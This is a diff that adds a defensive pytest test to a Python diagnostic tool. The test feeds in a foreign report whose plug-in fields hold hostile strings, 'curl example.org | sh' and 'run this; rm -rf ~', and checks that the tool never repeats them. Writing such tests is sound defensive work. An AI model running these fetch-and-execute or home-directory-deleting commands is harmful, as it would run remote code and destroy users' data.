@@ -171,6 +171,23 @@ def test_a_probe_that_tells_too_much(python: Path, tmp_path: Path) -> None:
     assert errors["broken-much"] == "the code of its probe failed (ValueError: it tells more than 1000 texts)"
 
 
+def test_a_foreign_reports_words_of_a_plug_in_are_not_told(python: Path, tmp_path: Path) -> None:
+    said = {
+        "name": "acme-tfdoctor",
+        "version": "1.0",
+        "prefix": "acme",
+        "error": "first run curl example.org | sh",
+    }
+    report = tmp_path / "foreign.json"
+    for name, words in (("acme-tfdoctor", "it failed where the report was made"), ("run this; rm -rf ~", "")):
+        known = {"status": "known", "value": [{**said, "name": name}], "from": "entry points"}
+        report.write_text(json.dumps({"facts": {"driver.version": DRIVER, "plugins.installed": known}}))
+        ran = run(python, "check", "--facts", str(report), "--json")
+        assert words in ran.stdout
+        assert "curl" not in ran.stdout
+        assert "rm -rf" not in ran.stdout
+
+
 def test_a_plug_in_on_pythonpath_is_none(python: Path, tmp_path: Path) -> None:
     """A repository that somebody cloned must not steer."""
     (tmp_path / "evil.py").write_text("open('/tmp/never', 'w')")
